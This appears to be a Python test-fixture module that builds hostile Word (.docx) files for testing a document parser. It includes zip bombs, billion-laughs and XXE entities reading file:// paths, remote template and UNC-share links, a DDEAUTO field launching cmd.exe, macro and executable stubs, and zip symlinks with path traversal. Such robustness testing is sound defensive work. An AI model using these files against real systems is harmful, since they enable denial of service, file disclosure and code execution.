"""Hostile Word files."""

from __future__ import annotations

import zipfile
import zlib
from collections.abc import Mapping
from io import BytesIO

from wordfiles import NAMESPACES, link, p, part, run, sample, table, word_file, zipped

from hostile.bombs import Entry, deflated, lying_zip
from hostile.lure import Lure, Maker

_DECLARED = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in NAMESPACES.items())
_TENFOLD = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
_LAUGHS = f'<!DOCTYPE x [<!ENTITY l0 "ha">{_TENFOLD}]>'
_SYSTEM = '<!DOCTYPE x [<!ENTITY e SYSTEM "{}"><!ENTITY % p SYSTEM "{}">%p;]>'
_TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _document(body: str, doctype: str = "") -> str:
    return f"{doctype}<w:document {_DECLARED}><w:body>{body}</w:body></w:document>"


def _main(xml: str | bytes) -> bytes:
    """A docx with this main part."""
    return word_file("", files={"word/document.xml": xml})


def _bomb(size: int, claimed: int | None = None, *, within: str = "word/document.xml") -> bytes:
    before = f"<w:document {_DECLARED}><w:body>".encode()
    entry = Entry(name=within, packed=deflated(b"<w:p/>", size, before=before), size=claimed or size & 0xFFFFFFFF)
    text = _document(p("Hej")).encode()
    good = Entry(name="word/document.xml", packed=zlib.compress(text, wbits=-15), size=len(text), crc=zlib.crc32(text))
    return lying_zip([entry] if within == "word/document.xml" else [good, entry])


def _overlapping() -> bytes:
    """Fifield's: a thousand names for the same large data."""
    first = Entry(name="word/document.xml", packed=deflated(b"<w:p/>", 50_000_000), size=50_000_000)
    others = [Entry(name=f"word/h{n}.xml", packed=first.packed, size=first.size, at=0) for n in range(1_000)]
    return lying_zip([first, *others])


def _in_one_another(levels: int) -> bytes:
    """altChunks, each a docx that holds the next."""
    inner = word_file(p("Innerst"))
    for _ in range(levels):
        inner = word_file(
            '<w:altChunk r:id="r9"/>', links=link("r9", "aFChunk", "c.docx"), files={"word/c.docx": inner}
        )
    return inner


def _many_chunks() -> bytes:
    """Ten docx, each of which inflates to much."""
    large = word_file("<w:p/>" * 1_000_000)
    links = "".join(link(f"c{n}", "aFChunk", f"c{n}.docx") for n in range(10))
    files = {f"word/c{n}.docx": large for n in range(10)}
    return word_file("".join(f'<w:altChunk r:id="c{n}"/>' for n in range(10)), links=links, files=files)


def _outside(kind: str, target: str) -> Maker:
    def make(lure: Lure) -> bytes:
        filled = target.format(path=lure.path, url=lure.url)
        body = (
            '<w:subDoc r:id="r9"/><w:altChunk r:id="r9"/><w:p><w:hyperlink r:id="r9">'
            + run("länk")
            + "</w:hyperlink></w:p>"
        )
        return word_file(body + p("Hej"), links=link("r9", kind, filled, outside=True))

    return make


def _fields(lure: Lure) -> bytes:
    codes = (
        f'INCLUDETEXT "{lure.path}"',
        f'INCLUDEPICTURE "{lure.url}/a.png"',
        'DDEAUTO c:\\\\cmd.exe "/k calc"',
        f"IMPORT {lure.path}",
    )
    return word_file(
        "".join(
            f'<w:p><w:fldSimple w:instr="{code.replace(chr(34), "&quot;")}">{run("x")}</w:fldSimple></w:p>'
            for code in codes
        )
    )


def _entity(codec: str) -> Maker:
    def make(lure: Lure) -> bytes:
        doctype = _SYSTEM.replace("{}", f"file://{lure.path}")
        declared = f'<?xml version="1.0" encoding="{codec}"?>'
        return _main((declared + _document(p("&e;"), doctype)).encode(codec))

    return make


def _entity_in(kind: str) -> Maker:
    def make(lure: Lure) -> bytes:
        doctype = _SYSTEM.replace("{}", f"{lure.url}/x.dtd")
        return word_file(
            p("Hej", '<w:pStyle w:val="a"/><w:numPr><w:numId w:val="1"/></w:numPr>'),
            {kind: doctype + part(kind, p("&e;"))},
        )

    return make


def _entity_in_rels(lure: Lure) -> bytes:
    doctype = _SYSTEM.replace("{}", f"file://{lure.path}")
    return word_file(p("Hej"), files={"word/_rels/document.xml.rels": f"{doctype}<Relationships>&e;</Relationships>"})


def _nested(tag: str, levels: int = 10_000) -> Maker:
    opened, closed = {
        "sdt": ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"),
        "tbl": ("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"),
        "box": ("<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent>", "</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"),
        "fallback": ("<mc:AlternateContent><mc:Fallback>", "</mc:Fallback></mc:AlternateContent>"),
    }.get(tag, (f"<w:{tag}>", f"</w:{tag}>"))  # fmt: skip
    return lambda _: word_file(opened * levels + p("Djupt nere") + closed * levels)


def _gigantic(_: Lure) -> bytes:
    huge = "9" * 4_000
    numbering = part(
        "numbering",
        f'<w:abstractNum w:abstractNumId="{huge}"><w:lvl w:ilvl="{huge}"><w:start w:val="{huge}"/><w:numFmt w:val="upperRoman"/>'
        '<w:lvlText w:val="%1"/></w:lvl></w:abstractNum><w:abstractNum w:abstractNumId="1"><w:lvl w:ilvl="0"><w:start w:val="2147483647"/>'
        '<w:numFmt w:val="upperRoman"/><w:lvlText w:val="%1.%9.%99"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/>'
        f'<w:lvlOverride w:ilvl="0"><w:startOverride w:val="{huge}"/></w:lvlOverride></w:num>',
    )
    cells = "".join(
        f'<w:tc><w:tcPr><w:gridSpan w:val="{n}"/><w:vMerge/></w:tcPr>{p("x")}</w:tc>'
        for n in (huge, "-1", "2147483648", "1e9", "NaN", "", "٣")
    )
    lists = "".join(
        p("x", f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="{number}"/></w:numPr>')
        for level in (huge, "-1", "0", "x") for number in (huge, "1", "-1", "²")
    )  # fmt: skip
    return word_file(f"<w:tbl><w:tblGrid/><w:tr>{cells}</w:tr></w:tbl>{lists}", {"numbering": numbering})


def _styles_in_a_circle(_: Lure) -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 5_000}"/><w:link w:val="s{n}"/></w:style>'
        for n in range(5_000)
    )
    numbering = part(
        "numbering",
        '<w:abstractNum w:abstractNumId="1"><w:numStyleLink w:val="s1"/><w:styleLink w:val="s1"/></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num>',
    )
    body = "".join(p("x", f'<w:pStyle w:val="s{n}"/>') for n in range(5_000))
    return word_file(body, {"styles": part("styles", styles), "numbering": numbering})


def _macros(_: Lure) -> bytes:
    sheet = '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" ProgID="Package" r:id="r8"/></w:object></w:r></w:p>'
    links = link("r7", "vbaProject", "vbaProject.bin") + link("r8", "oleObject", "embeddings/oleObject1.bin")
    files: Mapping[str, str | bytes] = {
        "word/vbaProject.bin": bytes.fromhex("d0cf11e0a1b11ae1") + bytes(5_000),
        "word/embeddings/oleObject1.bin": b"MZ" + bytes(5_000),
    }
    return word_file(p("Hej") + sheet, links=links, files=files)


def _polyglot(_: Lure) -> bytes:
    """A PDF before a docx: programs disagree on what it is."""
    return b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n" + sample("gavleborg-resan")


def _links_in_zip(lure: Lure) -> bytes:
    out = BytesIO(word_file(p("Hej"), links=link("r9", "header", "h.xml")))
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("word/h.xml")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, lure.path)
        archive.writestr("../../../../tmp/evil.txt", "x")
    return out.getvalue()


def _report_of(text: str) -> bytes:
    """Paragraphs that all look like the form's own."""
    return word_file("".join(p(text) for _ in range(19_000)))


WORD: dict[str, Maker] = {
    "a part of 4 GB": lambda _: _bomb(4_200_000_000),
    "a part of 4 GB that claims 1 kB": lambda _: _bomb(4_200_000_000, 1_000),
    "a picture of 4 GB that nobody needs": lambda _: _bomb(4_200_000_000, within="word/media/a.png"),
    "a thousand parts over one another": lambda _: _overlapping(),
    "60,000 parts": lambda _: lying_zip([Entry(name=f"a{n}", packed=b"\x03\0", size=0) for n in range(60_000)]),
    "docx in docx, 50 deep": lambda _: _in_one_another(50),
    "ten large docx in a docx": lambda _: _many_chunks(),
    "billions of laughs": lambda _: _main(_document(p("&l9;"), _LAUGHS)),
    "an entity in utf-8": _entity("utf-8"),
    "an entity in utf-16": _entity("utf-16"),
    "an entity in utf-16-be": _entity("utf-16-be"),
    "an entity in utf-32": _entity("utf-32"),
    "an entity in utf-7": _entity("utf-7"),
    "an entity in styles": _entity_in("styles"),
    "an entity in numbering": _entity_in("numbering"),
    "an entity in a header": _entity_in("header"),
    "an entity in relationships": _entity_in_rels,
    "an attached template elsewhere": _outside("attachedTemplate", "{url}/mall.dotm"),
    "a picture elsewhere": _outside("image", "{url}/a.png"),
    "a part of the document elsewhere": _outside("subDocument", "file://{path}"),
    "a chunk elsewhere": _outside("aFChunk", "file://{path}"),
    "a link to a file": _outside("hyperlink", "file://{path}"),
    "a link to a share": _outside("hyperlink", "\\\\127.0.0.1\\share\\x"),
    "a frame elsewhere": _outside("frame", "{url}/x.docx"),
    "fields that fetch": _fields,
    **{f"10,000 {tag} in one another": _nested(tag) for tag in ("sdt", "tbl", "ins", "smartTag", "box", "fallback", "p", "hyperlink")},
    **{f"60 {tag} in one another": _nested(tag, 60) for tag in ("sdt", "tbl", "ins", "smartTag", "p", "hyperlink")},
    "20 boxes in one another": _nested("box", 20),
    "a million cells": lambda _: word_file("<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>" * 1_000_000 + "</w:tr></w:tbl>"),
    "gigantic numbers": _gigantic,
    "styles in a circle": _styles_in_a_circle,
    "a run of 25 MB": lambda _: word_file(p("a" * 25_000_000)),
    "a run of 50 MB": lambda _: word_file(p("a" * 50_000_000)),
    "a run of 4 MB without spaces": lambda _: word_file(p("4.1" * 1_300_000)),
    "4 MB of spaces": lambda _: word_file(p(" " * 4_000_000 + "x")),
    "4 MB of digits": lambda _: word_file(p("07" * 2_000_000)),
    "a million runs": lambda _: word_file("<w:p>" + "<w:r><w:t>x</w:t></w:r>" * 1_000_000 + "</w:p>"),
    "90,000 runs": lambda _: word_file("<w:p>" + "<w:r><w:t>x</w:t></w:r>" * 90_000 + "</w:p>"),
    "macros and a program inside": _macros,
    "a pdf before it": _polyglot,
    "links in the zip": _links_in_zip,
    "19,000 headings": lambda _: _report_of("4.1 Syfte och mål"),
    "19,000 labels": lambda _: _report_of("Insatsens namn: RESAN"),
    "19,000 addresses": lambda _: _report_of("Kontaktuppgifter: maja@example.se, 070-174 06 05, 701063-2391, 2 458 000 kr"),
    "a form and 18,000 labels after it": lambda _: _after_form("Insatstid: 2022-01-01 - 2023-12-31"),
    "a form and 4 MB in an answer": lambda _: _after_form("Vi nådde målet. " * 250, 1_000),
    "a form and a table of 15,000 cells": lambda _: _after_form_table(),
    "half a million bytes that are no zip": lambda _: b"PK\x03\x04" + b"PK\x01\x02" * 100_000,
}  # fmt: skip


def _after_form(text: str, times: int = 18_000) -> bytes:
    return _with_more("".join(p(text) for _ in range(times)))


def _after_form_table() -> bytes:
    return _with_more(table(*[("Insatsens namn", "4.1 Syfte och mål", "RESAN")] * 5_000))


def _with_more(xml: str) -> bytes:
    """The sample report, and more before its end."""
    with zipfile.ZipFile(BytesIO(sample("gavleborg-resan"))) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    before, _, after = files["word/document.xml"].decode().rpartition("<w:sectPr")
    return zipped({**files, "word/document.xml": f"{before}{xml}<w:sectPr{after}"})
